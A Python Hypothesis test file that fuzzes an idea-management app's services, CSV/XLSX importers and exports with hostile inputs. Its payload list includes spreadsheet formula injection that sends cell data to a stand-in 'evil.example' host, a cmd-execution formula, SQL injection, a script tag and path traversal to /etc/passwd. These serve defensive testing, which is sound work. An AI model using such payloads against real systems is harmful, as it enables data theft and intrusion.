"""Bad input: Hypothesis throws hostile values at every service entry point and both importers.

For every call: no exception other than a HeroError subclass; every refusal a clear message (non-empty, no
traceback, no SQL or driver text); and after a refusal the database is exactly as before (every table compared).
Example counts come from the profile in tests/trust/conftest.py ("trust": modest, for `make test`).
"""

from __future__ import annotations

import csv
import functools
import io
import math
from datetime import date, datetime

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hero_core import risk
from hero_core.errors import HeroError
from hero_core.services import campaigns, catalog, ideas, ideas_io, metrics_io, people
from tests.integration.factories import assessment, idea_in_state
from tests.trust.conftest import snapshot

LEAKS = ("Traceback", "sqlite3.", "psycopg", "SELECT ", "INSERT INTO", "UPDATE ", "(Background on this error")

NASTY_TEXT = [
    "", " ", "\x00", "title\x00with NUL", "\u202eevil\u202c reversed", "\u200f\u200e\u061c", "\ud800 lone surrogate",
    "\ufeffBOM first", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)",
    "-2+3", "\t=1+1", "😀" * 60, "👩‍👩‍👧‍👦 family", "𝕳𝖊𝖗𝖔 𝖙𝖊𝖝𝖙", "<script>alert(1)</script>",
    "'; DROP TABLE ideas; --", "x" * 100_000, "\r\n\t\x0b\x0c", "\x1b[31mred\x1b[0m", "NaN", "inf", "-1",
    "a" * 4, "Ω" * 201, "\u0000" * 3, "%s%s%s%n", "{0.__class__}", "../../etc/passwd", "a\u0301" * 10,
]
TEXT = st.one_of(st.sampled_from(NASTY_TEXT), st.text(max_size=300),
                 st.text(alphabet=st.characters(codec="utf-8", categories=("Cc", "Cf", "Zs", "So", "Mn")),
                         max_size=50))
NUMBER = st.one_of(st.floats(allow_nan=True, allow_infinity=True), st.integers(-(2**70), 2**70),
                   st.sampled_from([math.nan, math.inf, -math.inf, -1, 0, 2**63, "12", None, True, -0.0]))
IDS = st.one_of(st.integers(-(2**70), 2**70), st.sampled_from([0, -1, None, "1", 1.5, True, 2**63, 2**64, -(2**63)]))
DATES = st.one_of(st.dates(), st.sampled_from([
    "2026-02-30", "not a date", None, 0, -1, "31/31/2026", math.nan,
    datetime(2026, 1, 1),  # noqa: DTZ001 - a naive datetime is one of the hostile values
    date(1, 1, 1), date(9999, 12, 31)]), TEXT)
CODES = st.one_of(TEXT, st.lists(TEXT, max_size=3))


#: PostgreSQL runs a quarter of the examples (its round trips make each one several times dearer); the NUL
#: bytes, huge numbers and lone surrogates it alone refuses are in NASTY_TEXT, which every run draws from.
PG_EXAMPLES = max(5, settings.default.max_examples // 4)


def on_both(**strategies):
    """@given for both databases: the full count on SQLite, PG_EXAMPLES on PostgreSQL."""
    def decorate(body):
        sqlite_test = pytest.mark.parametrize("db", ["sqlite"], indirect=True)(given(**strategies)(body))
        pg_test = pytest.mark.parametrize("db", ["postgresql"], indirect=True)(
            settings(max_examples=PG_EXAMPLES)(given(**strategies)(body)))
        return sqlite_test, pg_test
    return decorate


def attack(db, call) -> str:
    """Run one hostile call: 'ok', or 'refused' after checking the refusal and that nothing changed."""
    before = snapshot(db)
    try:
        call()
    except HeroError as exc:
        refusal = exc
    else:
        return "ok"
    message = str(refusal)
    assert message.strip(), f"{type(refusal).__name__} without a message"
    assert not any(leak in message for leak in LEAKS), message[:500]
    after = snapshot(db)
    assert after == before, f"refused ({message[:200]}) but the database changed"
    return "refused"


@pytest.fixture
def world(org):
    """The organisation with one idea in review (assessed) and one in build, to act on."""
    org.review = idea_in_state(org, "in_review")
    ideas.assess_risk(org.db, actor_id=org.manager, idea_id=org.review, assessment=assessment())
    org.build = idea_in_state(org, "in_build")
    org.draft = idea_in_state(org, "draft")
    return org


@on_both(title=TEXT, roadblock=TEXT, proposal=TEXT, touchpoint=TEXT, category=TEXT, benefit=TEXT,
       tech=st.one_of(st.booleans(), st.sampled_from([None, "yes", 1, math.nan])), metrics=CODES, campaign=IDS)
def _test_proposing_and_editing_ideas_with_hostile_values(world, title, roadblock, proposal, touchpoint, category,
                                                        benefit, tech, metrics, campaign):
    metrics = [metrics] if isinstance(metrics, str) else metrics
    data = ideas.IdeaInput(title=title, roadblock=roadblock, proposal=proposal, touchpoint=touchpoint,
                           category=category, involves_technology=tech, expected_benefit=benefit,
                           target_metrics=metrics, campaign_id=campaign)
    db = world.db
    attack(db, lambda: ideas.create_idea(db, actor_id=world.frontline, data=data))
    attack(db, lambda: ideas.edit_idea(db, actor_id=world.frontline, idea_id=world.draft, expected_version=None,
                                       data=data))
    assert isinstance(ideas.validate_idea_input(db, data=data), dict)

test_proposing_and_editing_ideas_with_hostile_values, test_proposing_and_editing_ideas_with_hostile_values_pg = (
    _test_proposing_and_editing_ideas_with_hostile_values)


@on_both(reason=TEXT, idea_id=IDS, version=IDS)
def _test_decisions_with_hostile_reasons_ids_and_versions(world, reason, idea_id, version):
    db = world.db
    for call in (ideas.request_changes, ideas.decline):
        attack(db, functools.partial(call, db, actor_id=world.manager, idea_id=world.review, reason=reason,
                                     expected_version=version))
    attack(db, lambda: ideas.approve(db, actor_id=world.manager, idea_id=idea_id, reason=reason))
    attack(db, lambda: ideas.retire(db, actor_id=world.manager, idea_id=idea_id, reason=reason))
    attack(db, lambda: ideas.get_idea(db, actor_id=world.manager, idea_id=idea_id))
    attack(db, lambda: ideas.timeline(db, actor_id=world.manager, idea_id=idea_id))
    attack(db, lambda: ideas.start_review(db, actor_id=idea_id, idea_id=world.review))

test_decisions_with_hostile_reasons_ids_and_versions, test_decisions_with_hostile_reasons_ids_and_versions_pg = (
    _test_decisions_with_hostile_reasons_ids_and_versions)


@on_both(likelihood=NUMBER, impact=NUMBER, mitigation=TEXT, notes=TEXT, people_touched=NUMBER, budget=TEXT)
def _test_risk_assessment_with_hostile_ratings(world, likelihood, impact, mitigation, notes, people_touched, budget):
    ratings = [risk.Rating(code, likelihood, impact, mitigation) for code in risk.CATEGORIES]
    ev = risk.EffortValue(needs_it=False, needs_legal=False, budget=budget, people_systems_touched=people_touched,
                          customers_reached="many_teams", expected_change="clear", strategic_fit="strong")
    db = world.db
    attack(db, lambda: ideas.assess_risk(db, actor_id=world.manager, idea_id=world.review,
                                         assessment=ideas.AssessmentInput(ratings, ev, notes)))

test_risk_assessment_with_hostile_ratings, test_risk_assessment_with_hostile_ratings_pg = (
    _test_risk_assessment_with_hostile_ratings)


@on_both(plan=TEXT, effort=NUMBER, blockers=TEXT, teams=CODES, launch=DATES)
def _test_it_plans_and_pilots_with_hostile_values(world, plan, effort, blockers, teams, launch):
    teams = [teams] if isinstance(teams, str) else teams
    db = world.db
    attack(db, lambda: ideas.plan_it(db, actor_id=world.it, idea_id=world.build, plan=plan, effort_days=effort,
                                     blockers=blockers))
    attack(db, lambda: ideas.start_pilot(db, actor_id=world.it, idea_id=world.build, pilot_team_codes=teams,
                                         launch_date=launch))

test_it_plans_and_pilots_with_hostile_values, test_it_plans_and_pilots_with_hostile_values_pg = (
    _test_it_plans_and_pilots_with_hostile_values)


@on_both(code=TEXT, name=TEXT, email=TEXT, roles=CODES, password=TEXT)
def _test_people_and_teams_with_hostile_values(world, code, name, email, roles, password):
    roles = [roles] if isinstance(roles, str) else roles
    db = world.db
    attack(db, lambda: people.create_team(db, actor_id=world.admin, code=code, name=name))
    attack(db, lambda: people.rename_team(db, actor_id=world.admin, team_code=code, name=name))
    attack(db, lambda: people.add_user(db, actor_id=world.admin, email=email, name=name, roles=roles,
                                       team_code=code, password=password))
    attack(db, lambda: people.set_roles(db, actor_id=world.admin, email=email, roles=roles))
    attack(db, lambda: people.set_password(db, actor_id=world.admin, email="sam@example.com", password=password))
    attack(db, lambda: people.authenticate(db, email=email, password=password))

test_people_and_teams_with_hostile_values, test_people_and_teams_with_hostile_values_pg = (
    _test_people_and_teams_with_hostile_values)


@on_both(title=TEXT, description=TEXT, touchpoint=TEXT, closes=DATES, teams=CODES, metric_code=TEXT, low=NUMBER,
       high=NUMBER)
def _test_campaigns_and_metric_catalog_with_hostile_values(world, title, description, touchpoint, closes, teams,
                                                         metric_code, low, high):
    teams = [teams] if isinstance(teams, str) else teams
    db = world.db
    attack(db, lambda: campaigns.create_campaign(db, actor_id=world.manager, title=title, description=description,
                                                 touchpoint=touchpoint, closes_on=closes, team_codes=teams))
    attack(db, lambda: catalog.save_metric(db, actor_id=world.admin, metric=catalog.MetricDef(
        metric_code, title, "unit", "higher", low, high, "mean", description)))

test_campaigns_and_metric_catalog_with_hostile_values, test_campaigns_and_metric_catalog_with_hostile_values_pg = (
    _test_campaigns_and_metric_catalog_with_hostile_values)


@on_both(search=TEXT, page=NUMBER, size=NUMBER, states=CODES)
def _test_browsing_with_hostile_filters(world, search, page, size, states):
    states = [states] if isinstance(states, str) else states
    db = world.db
    attack(db, lambda: ideas.list_ideas(db, actor_id=world.frontline, flt=ideas.IdeaFilter(
        search=search, states=states, team_codes=states), page=page, page_size=size))

test_browsing_with_hostile_filters, test_browsing_with_hostile_filters_pg = (
    _test_browsing_with_hostile_filters)


@pytest.mark.parametrize("db", ["sqlite"], indirect=True)
def test_comments_with_hostile_bodies(world):
    social = pytest.importorskip("hero_core.services.social", reason="the comment feature is not merged yet")

    @given(body=TEXT)
    def run(body):
        attack(world.db, lambda: social.add_comment(world.db, actor_id=world.frontline_b, idea_id=world.review,
                                                    body=body))

    run()


# ---- the importers --------------------------------------------------------------------------------------------

IDEA_HEADER = ["title", "roadblock", "proposal", "submitter_email", "team", "touchpoint", "category",
               "involves_technology", "submitted_at", "state", "launch_date", "pilot_teams", "target_metrics"]
CELL = st.one_of(TEXT.filter(lambda t: "\x00" not in t or len(t) < 50), st.sampled_from(
    ["fran@example.com", "CC", "website", "complex_form", "submitted", "2026-02-30", "yes", "scaled"]))


def _csv(rows) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8", "surrogatepass")


@on_both(rows=st.lists(st.lists(CELL, min_size=len(IDEA_HEADER), max_size=len(IDEA_HEADER)), min_size=1, max_size=4),
       raw=st.binary(max_size=300), header_ok=st.booleans())
def _test_the_ideas_importer_with_hostile_files(world, rows, raw, header_ok):
    db = world.db
    attack(db, lambda: ideas_io.import_ideas_csv(db, actor_id=world.admin, content=_csv(
        ([IDEA_HEADER] if header_ok else []) + rows)))
    attack(db, lambda: ideas_io.import_ideas_csv(db, actor_id=world.admin, content=raw))

test_the_ideas_importer_with_hostile_files, test_the_ideas_importer_with_hostile_files_pg = (
    _test_the_ideas_importer_with_hostile_files)


METRIC_CELL = st.one_of(CELL, st.sampled_from(["csat", "nps", "CC", "ST", "2026-01-05", "05/01/2026", "NaN", "inf",
                                               "-inf", "1e309", "-5", "4.2", "", "1,5", "2026-13-01"]))


@on_both(rows=st.lists(st.lists(METRIC_CELL, min_size=4, max_size=5), min_size=1, max_size=5),
       raw=st.binary(max_size=300), replace=st.booleans(), dayfirst=st.sampled_from([None, True, False]))
def _test_the_metrics_importer_with_hostile_csv_files(world, rows, raw, replace, dayfirst):
    db = world.db
    body = _csv([["metric", "team", "date", "value", "sample_size"], *rows])
    attack(db, lambda: metrics_io.import_metrics(db, actor_id=world.admin, source=io.BytesIO(body),
                                                 file_name="m.csv", replace=replace, dayfirst=dayfirst))
    attack(db, lambda: metrics_io.import_metrics(db, actor_id=world.admin, source=io.BytesIO(raw),
                                                 file_name="m.csv"))
    attack(db, lambda: metrics_io.import_metrics(db, actor_id=world.admin, source=io.BytesIO(raw),
                                                 file_name="m.xlsx"))

test_the_metrics_importer_with_hostile_csv_files, test_the_metrics_importer_with_hostile_csv_files_pg = (
    _test_the_metrics_importer_with_hostile_csv_files)


XLSX_CELL = st.one_of(METRIC_CELL.filter(lambda t: not any(ord(c) < 32 or 0xD800 <= ord(c) < 0xE000 for c in t)),
                      st.floats(allow_nan=False), st.integers(-(10**15), 10**15), st.dates(), st.none(),
                      st.sampled_from(["=1/0", "=HYPERLINK(\"http://evil\")", True]))


@on_both(rows=st.lists(st.lists(XLSX_CELL, min_size=4, max_size=5), min_size=1, max_size=5))
def _test_the_metrics_importer_with_hostile_xlsx_files(world, rows):
    book = openpyxl.Workbook()
    book.active.append(["metric", "team", "date", "value", "sample_size"])
    for row in rows:
        book.active.append(row)
    data = io.BytesIO()
    book.save(data)
    db = world.db
    attack(db, lambda: metrics_io.import_metrics(db, actor_id=world.admin, source=io.BytesIO(data.getvalue()),
                                                 file_name="m.xlsx"))

test_the_metrics_importer_with_hostile_xlsx_files, test_the_metrics_importer_with_hostile_xlsx_files_pg = (
    _test_the_metrics_importer_with_hostile_xlsx_files)


# ---- exports: spreadsheet formula injection ------------------------------------------------------------------

FORMULAS = st.builds(lambda start, rest: start + rest, st.sampled_from(["=", "+", "-", "@", "\t", "\r"]),
                     st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cc", "Cs")), max_size=40))


@given(payload=FORMULAS)
def test_any_text_that_would_start_a_formula_is_quoted_in_csv_and_xlsx_downloads(payload):
    import pandas as pd

    from hero_app import ui

    df = pd.DataFrame({"Title": [payload, "plain"], "#": [1, 2]})
    book = openpyxl.load_workbook(io.BytesIO(ui.xlsx_bytes(df, "ideas")))
    cell = book.active.cell(row=2, column=1)
    assert cell.data_type == "s" and str(cell.value).startswith("'"), (payload, cell.value)
    first = next(csv.reader(io.StringIO(ui.csv_bytes(df).decode("utf-8-sig"))))  # header
    assert first == ["Title", "#"]
    body = list(csv.reader(io.StringIO(ui.csv_bytes(df).decode("utf-8-sig"), newline="")))
    assert body[1][0].startswith("'"), body[1]


def test_hero_ideas_export_quotes_formula_titles_and_the_file_imports_back_unchanged(world, tmp_path):
    from click.testing import CliRunner

    from hero_core.cli import main

    evil = '=HYPERLINK("http://evil.example/steal?d="&A1,"Open")'
    idea_id = ideas.create_idea(world.db, actor_id=world.frontline, submit=True, data=ideas.IdeaInput(
        title=evil, roadblock="@SUM(A1:A9) customers wait", proposal="+1 more agent on the phones, please",
        touchpoint="website", category="complex_form"))
    out = tmp_path / "ideas.csv"
    result = CliRunner().invoke(main, ["ideas", "export", str(out)], env={"HERO_DATABASE_URL": world.db.url})
    assert result.exit_code == 0, result.output
    rows = {r["id"]: r for r in csv.DictReader(out.open(encoding="utf-8"))}
    row = rows[str(idea_id)]
    assert row["title"] == "'" + evil
    assert row["roadblock"].startswith("'@") and row["proposal"].startswith("'+")
    assert ideas_io._unquote_formula(row["title"]) == evil
